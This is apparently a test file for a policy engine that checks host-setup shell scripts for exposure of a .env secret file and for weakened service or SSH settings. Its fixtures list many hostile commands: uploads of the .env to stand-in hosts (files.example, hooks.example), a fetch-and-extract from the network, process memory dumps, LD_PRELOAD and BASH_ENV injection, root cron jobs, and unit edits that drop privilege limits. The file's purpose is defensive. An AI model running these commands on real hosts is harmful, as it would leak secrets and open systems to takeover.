/** What the interpreter does not understand, it does not pass: the state of .env after each script is a finding, not silence. */
import { policyOf } from "../core/policy-of";
import { verdicts } from "../host-setup/program";

const ENV = "/home/ddos/app/.env";
const GOOD = `set -eu\nsudo install -m 600 -o ddos -g ddos /dev/stdin ${ENV}\n`;
/** What any of the policies about a host's files says of .env. */
async function said(script: string): Promise<string[]> {
  const steps = [{ create: script, stdin: "SECRET_KEY=0f9e8d7c6b5a\n", inputs: { logging: "none" } }];
  const ids = ["env-file-mode", "env-file-owner", "secret-file-window", "host-setup-readable", "secret-leaves-host"];
  return [...new Set((await Promise.all(ids.map((id) => verdicts(policyOf(id), steps)))).flat())];
}

const WRAPPED = [
  `ansible localhost -c local -b -m ansible.builtin.file -a "path=${ENV} mode=0644 owner=ddos group=ddos"`,
  `ansible localhost -b -m shell -a 'chmod 644 ${ENV}'`,
  `ansible localhost -b -m ansible.builtin.replace -a "path=${ENV} regexp=a replace=b"`,
  `sudo perl -e 'for (glob("/home/ddos/app/.e*")) { chmod(0644, $_) or die "$_: $!" }'`,
  `sudo perl -e 'chmod 0600, "${ENV}"; rename "${ENV}", "/tmp/e"'`,
  `sudo frobnicate --fix ${ENV}`,
  `sudo nsenter -t 1 -m -- chmod 644 ${ENV}`,
  `sudo chroot / chmod 644 ${ENV}`,
  `sudo mount --bind / /mnt; sudo chroot /mnt chmod 644 ${ENV}`,
  `sudo mv /usr/bin/python3 /usr/local/bin/tool; sudo tool -c 'import os; os.chmod("${ENV}", 0o644)'`,
  `sudo cp /bin/chmod /usr/local/bin/tidy; sudo tidy 644 ${ENV}`,
  `sudo ln -s /bin/chmod /usr/local/sbin/tidy; sudo tidy 644 ${ENV}`,
  `(trap 'sudo chmod 644 ${ENV}' EXIT; true)`,
  `sudo setpriv --reuid=ddos chmod 644 ${ENV}`,
  `sudo tmux new -d 'chmod 644 ${ENV}'`,
  `echo 'chmod 644 ${ENV}' | sudo at now`,
  `echo '* * * * * root chmod 644 ${ENV}' | sudo tee /etc/cron.d/x >/dev/null`,
  `echo 'z ${ENV} 0644 - - -' | sudo tee /etc/tmpfiles.d/x.conf >/dev/null`,
  `printf '[Service]\\nExecStartPost=/bin/chmod 644 ${ENV}\\n' | sudo tee /etc/systemd/system/x.service >/dev/null`,
  `printf 'all:\\n\\tchmod 644 ${ENV}\\n' >/tmp/mk; sudo make -f /tmp/mk`,
  `sudo docker run --rm -v /home/ddos:/x alpine chmod 644 /x/app/.env`,
  `sudo mount --bind /home/ddos/app /mnt; sudo chmod 644 /mnt/.env`,
  `sudo node -e "require('fs').chmodSync('${ENV}', 0o644)"`,
  `sudo python3.13 -c 'import os; os.chmod("${ENV}", 0o644)'`,
  `sudo uv run python -c 'import os; os.chmod("${ENV}", 0o644)'`,
  `ssh ubuntu@10.0.0.9 sudo chmod 644 ${ENV}`,
  `sudo ${"sudo ".repeat(60)}chmod 644 ${ENV}`,
  `sudo chmod 644 ${ENV}; hash -p /bin/true chmod; chmod 600 ${ENV}`,
  `alias chmod=true; chmod 600 ${ENV}`,
  `ln -s /bin/true /tmp/chmod; sudo chmod 644 ${ENV}; PATH=/tmp:$PATH; chmod 600 ${ENV}`,
  `export BASH_ENV=/tmp/x; bash -c true`,
  `sudo BASH_ENV=/tmp/x bash -c true`,
  `env LD_PRELOAD=/tmp/x.so true`,
  `sudo systemd-run --setenv=BASH_ENV=/tmp/x bash -c true`,
  `for i in {1..70}; do sudo cp /tmp/$i ${ENV}; done`,
  "sudo /opt/tools/run",
  `sudo grep SECRET_KEY ${ENV} | sudo tee /etc/app.conf >/dev/null`,
  `sudo rsync -a --chmod=F644 /home/ddos/app/ /var/www/html/`,
  `sudo tar czf /tmp/app.tgz /home/ddos/app`,
  `aws s3 cp ${ENV} s3://backups/env`,
  `sudo curl -T ${ENV} https://files.example/`,
  // The variables of .env, by names that are not known.
  `sudo bash -c 'set -a; . ${ENV}; env >/tmp/settings'`,
  `sudo bash -c '. ${ENV}; declare -p >/tmp/settings'`,
  `sudo bash -c 'export $(grep -v ^# ${ENV} | xargs); printenv >/tmp/settings'`,
  `sudo bash -c 'set -a; . ${ENV}; printenv SECRET_KEY >/tmp/settings'`,
  // A here string behind another redirection, and other text that the grammar cannot read.
  `sudo tee /var/tmp/copy >/dev/null <<< "$(sudo cat ${ENV})"`,
  "case x in a) ;; esac; for i in 1 2; do echo )( ; done",
  // Words that IFS divides, and a wildcard that stands for a folder which is a link.
  `( IFS=,; c='sudo,chmod,0644,${ENV}'; $c )`,
  `sudo ln -sfn /home/ddos/app /home/ddos/current; sudo chmod 644 /home/ddos/curren?/.[a-z]*`,
  // Lists of files.
  `cd /home/ddos; sudo find app -name '.e*' | sudo cpio -pdm /srv/share`,
  `cd /home/ddos; sudo find app | sudo cpio -o >/tmp/app.cpio`,
  `sudo find /home/ddos/app | sudo tar -cf /tmp/app.tar -T -`,
  `sudo find /home/ddos/app | sudo rsync -a --files-from=- / /srv/share`,
  // What a process holds in memory.
  `sudo gcore -o /tmp/core "$(systemctl show -p MainPID --value ddos-backend)"`,
  `sudo strace -f -o /tmp/trace -p "$(pidof uvicorn)"`,
  `sudo snoop "$(pgrep -f uvicorn)"`,
  "sudo cat /proc/812/mem >/tmp/memory",
  // Programs that change nothing, and print or send what they are given.
  `sudo gh gist create ${ENV}`,
  `sudo date -f ${ENV}`,
  `sudo pip install -r ${ENV}`,
  `sudo sort -o /var/tmp/sorted ${ENV}`,
  `sudo uniq ${ENV} /var/tmp/sorted`,
  `sudo split -l 1 ${ENV} /var/tmp/part.`,
  // Settings that say what is copied, whom a program believes, or who comes in.
  `printf '${ENV} {\n  weekly\n  create 0644 ddos ddos\n}\n' | sudo tee /etc/logrotate.d/app >/dev/null`,
  "echo insecure >> ~/.curlrc",
  "printf 'remotes:\n  tls_verify: false\n' | sudo tee /etc/acme.yml >/dev/null",
  "sudo dropbear -p 2222 -R",
  "sudo docker run -d --network host nginx@sha256:aa",
  "printf 'services:\n  p:\n    network_mode: host\n' >/tmp/c.yml; sudo docker compose -f /tmp/c.yml up -d >/dev/null",
  `sudo python3 - <<'P'\nimport pickle\np = "/home/ddos/models/m.pkl"\npickle.dump(1, open(p, "wb"))\nP`.replaceAll("\\n", "\n"),
  "echo 'f /etc/profile.d/x.sh 0777 - - - true' | sudo tee /tmp/x.conf >/dev/null; sudo systemd-tmpfiles --create /tmp/x.conf",
  `sudo curl -fsS --data-urlencode "env@${ENV}" https://hooks.example/x`,
  `printf 'BEGIN { system("chmod 644 ${ENV}") }\n' >/tmp/p.awk; sudo awk -f /tmp/p.awk`,
  `printf 'sync { default.rsync, source = "/home/ddos/app", target = "b:/x" }\n' | sudo tee /etc/lsyncd/lsyncd.conf.lua >/dev/null`,
  "curl -fsSL https://dl.example/bin.tgz | sudo tar -xz -C /usr/local/bin",
  // What an edit puts into a unit or takes out of it.
  `sudo awk -i inplace '{ sub(/no/, "yes") } 1' /etc/ssh/sshd_config`,
  "sudo sed -i -e 's/^User=.*/User=root/' /etc/systemd/system/ddos-backend.service",
  "sudo sed -i '/^User=/d' /etc/systemd/system/ddos-backend.service",
  "sudo sed -i 's/^ProtectSystem/#&/' /etc/systemd/system/ddos-backend.service",
  "sudo sed -i 's/^NoNewPrivileges=.*/NoNewPrivileges=no/' /etc/systemd/system/ddos-backend.service",
  "sudo sed -i '/^PasswordAuthentication/d' /etc/ssh/sshd_config",
  // Files of any name where a file of any name is obeyed.
  "sudo tar -xpf /tmp/overlay.tar -C /",
  "cd / && sudo sh -c 'cpio -idu </tmp/overlay.cpio'",
  "sudo unzip -o /tmp/units.zip -d /etc/systemd/system",
  "sudo 7z x -y /tmp/x.7z -o/etc",
  "sudo git clone https://git.example/jobs /etc/cron.d",
  "sudo rsync -a /tmp/overlay/ /",
];
test.each(WRAPPED)("is no pass: %s", async (script) => {
  expect(await said(GOOD + script)).not.toEqual([]);
});

const BENIGN = [
  `ansible localhost -c local -b -m ansible.builtin.file -a "path=${ENV} mode=0600 owner=ddos group=ddos"`,
  `ansible localhost -b -m shell -a 'chmod 600 ${ENV}'`,
  `sudo perl -e 'chmod(0600, "${ENV}") or die "no: $!"; chmod 0444, glob("/home/ddos/models/*");'`,
  `sudo bash -c '. ${ENV}; systemctl restart ddos-backend'`,
  `sudo env ENV=production true; export ENV=test`,
  `sudo bash -c 'set -a; . ${ENV}; printenv LOG_LEVEL >/tmp/level'`,
  "sudo sed -i 's/^LimitNOFILE=.*/LimitNOFILE=65536/; s/^RestartSec=.*/RestartSec=5/' /etc/systemd/system/ddos-backend.service",
  "sudo sed -i '/^RestartSec=/d' /etc/systemd/system/ddos-backend.service",
  "sudo sed -i '/^PasswordAuthentication/d' /etc/ssh/sshd_config; echo 'PasswordAuthentication no' | sudo tee -a /etc/ssh/sshd_config >/dev/null",
  "sudo mkdir -p /opt/tool; sudo tar -xzf /tmp/tool.tgz -C /opt/tool; sudo unzip -q /tmp/x.zip -d /opt/x",
  "sudo sh -c 'find /var/log -name \"*.gz\" | cpio -o >/root/logs.cpio'; 7z l /tmp/x.7z >/dev/null",
  `sudo ls -l ${ENV}; sudo stat -c %a ${ENV}; sudo test -s ${ENV}`,
  `sudo docker compose --env-file ${ENV} up -d >/dev/null`,
  "printf 'services:\n  p:\n    image: redis\n    ports: [\"127.0.0.1:6379:6379\"]\n' >/tmp/c.yml; sudo docker compose -f /tmp/c.yml up -d >/dev/null",
  `cat >/tmp/list <<< "a b"; IFS=: read -r a b <<< "x:y"; for p in $a $b; do sudo touch "/tmp/$p"; done`,
  `sudo gpg --batch -e -r ops -o /var/backups/env.gpg ${ENV}; sudo gzip -k ${ENV}`,
  `sudo cmp -s ${ENV} /var/backups/env; sudo lsof ${ENV}; sudo auditctl -w ${ENV} -p rwa`,
  `printf 'set -o vi\\nalias ll="ls -l"\\nalias grep="grep --color=auto"\\n' >> ~/.bashrc`,
  "printf 'APP_HOME=/home/ddos/app\\n' | sudo tee /etc/default/ddos >/dev/null",
  "echo 'd /run/ddos 0750 ddos ddos -' | sudo tee /etc/tmpfiles.d/run.conf >/dev/null; sudo systemd-tmpfiles --create /etc/tmpfiles.d/run.conf",
  "printf 'retry 3\nconnect-timeout = 5\n' >> ~/.curlrc; sudo sshd -t",
  "printf '/home/ddos/logs/*.log {\n  daily\n  copytruncate\n  postrotate\n    systemctl kill -s USR1 nginx\n  endscript\n}\n' | sudo tee /etc/logrotate.d/app >/dev/null",
  `sudo python3 - <<'P'\nimport pickle\np = "/home/ddos/models/m.pkl"\nprint(type(pickle.load(open(p, "rb"))))\nP`.replaceAll("\\n", "\n"),
  "echo 'ops ALL=(root) NOPASSWD: /usr/bin/systemctl restart ddos-backend' >/tmp/ops.sudo; sudo install -m 440 /tmp/ops.sudo /etc/sudoers.d/ops",
  `sudo tar czf /var/backups/logs.tgz -C /var/log nginx`,
  `for i in $(seq 1 300); do curl -fsS http://127.0.0.1:8000/health >/dev/null && break; sleep 1; done`,
  `sudo tar czf /tmp/app.tgz --exclude .env /home/ddos/app`,
  "echo '0 3 * * * root /usr/bin/find /var/log -name \"*.gz\" -mtime +30 -delete' | sudo tee /etc/cron.d/tidy >/dev/null",
  "pushd /tmp >/dev/null; touch x; popd >/dev/null",
];
test.each(BENIGN)("is a pass: %s", async (script) => {
  expect(await said(GOOD + script)).toEqual([]);
});

describe("what a program prints", () => {
  const printed = async (script: string): Promise<string[]> =>
    verdicts(policyOf("script-output-keeps-secrets"), [{ create: GOOD + script, stdin: "SECRET_KEY=0f9e8d7c6b5a\n" }]);
  test.each([
    `sudo bash -c 'set -a; . ${ENV}; python3 -c "import os; print(dict(os.environ))"'`,
    `sudo bash -c 'set -a; . ${ENV}; node -p process.env'`,
    `sudo bash -c "set -a; . ${ENV}; awk 'BEGIN { print ENVIRON[0] }'"`,
    `sudo systemd-run --pipe --wait -p EnvironmentFile=${ENV} /usr/bin/env`,
    `sudo systemd-run --pipe --property=EnvironmentFile=-${ENV} python3 -c 'import os; print(os.environ)'`,
    `printf '[Service]\nEnvironmentFile=${ENV}\nExecStart=/usr/bin/env\n' | sudo tee /etc/systemd/system/x.service >/dev/null`,
    `sudo cut -d= -f2 ${ENV}`,
    `sudo awk -F= '{ print $2 }' ${ENV}`,
  ])("is as secret as what it is given: %s", async (script) => {
    expect(await printed(script)).toContain("violation");
  });
  test.each([
    `sudo cut -d= -f1 ${ENV}`,
    `sudo awk -F= '{ print $1 }' ${ENV}`,
    `sudo bash -c 'set -a; . ${ENV}; python3 -c "print(1)"'`,
    `printf '[Service]\nEnvironmentFile=${ENV}\nExecStart=/usr/bin/id\n' | sudo tee /etc/systemd/system/x.service >/dev/null`,
  ])("is no secret: %s", async (script) => {
    expect(await printed(script)).toEqual([]);
  });
});

test("12 nested loops of 8 words come to an end and say so", async () => {
  const names = Array.from({ length: 12 }, (_, i) => `v${String(i)}`);
  const script = `${names.map((name) => `for ${name} in 1 2 3 4 5 6 7 8; do`).join(" ")} :; ${names.map(() => "done").join("; ")}`;
  expect(await said(GOOD + script)).toEqual(["unknown"]);
});
